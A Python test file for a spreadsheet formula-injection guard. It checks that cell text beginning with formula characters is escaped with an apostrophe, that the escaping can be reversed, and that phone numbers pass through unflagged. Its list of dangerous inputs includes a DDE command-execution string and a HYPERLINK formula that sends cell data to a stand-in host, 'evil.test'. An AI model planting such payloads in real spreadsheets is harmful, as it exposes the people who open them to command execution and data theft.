import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from documents.formulas import guard, is_formula, is_suspicious, unguard

DANGEROUS = [
    "=1+1",
    "+44 7700 900123",
    "-5",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\tname",
    "\rname",
    "\nname",
    "  =1",
    "\ufeff=1",
    "\u200b=1",
    "\u00a0=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM",
    "%0A=1",
    "%0d%0a=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?"&A1)',
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_i10_text_that_would_run_gets_an_apostrophe(text):
    assert guard(text) == f"'{text}"
    assert unguard(guard(text)) == text


@pytest.mark.parametrize(
    "text", ["", "Dee", "O'Brien", "'tis", "a=1", "07700 900123", "50%", "(x)"]
)
def test_i10_other_text_is_left_alone(text):
    assert guard(text) == text
    assert unguard(text) == text


@given(st.text() | st.sampled_from(DANGEROUS).map("'".__add__) | st.text("'=+-@\t a1%0A"))
def test_i10_guarding_is_undone_exactly_and_leaves_nothing_that_runs(text):
    assert unguard(guard(text)) == text
    assert not is_formula(guard(text))


@pytest.mark.parametrize("text", ["+44 7700 900123", "+44 (0)20 7946-0000", "-5", "-5.25", "+1"])
def test_numbers_and_phone_numbers_are_not_suspicious(text):
    assert not is_suspicious(text)


@pytest.mark.parametrize("text", ["=1+1", "@SUM(A1)", "-cmd|x", "+A1", "\t=1"])
def test_what_else_begins_as_a_formula_is(text):
    assert is_suspicious(text)


@pytest.mark.parametrize("text", ["'" * 50_000, " " * 50_000, "%0a" * 20_000, "1 " * 25_000 + "x"])
def test_i16_fifty_thousand_characters_are_judged_quickly(text):
    start = time.process_time()
    unguard(guard(text))
    is_suspicious(text)
    assert time.process_time() - start < 0.1
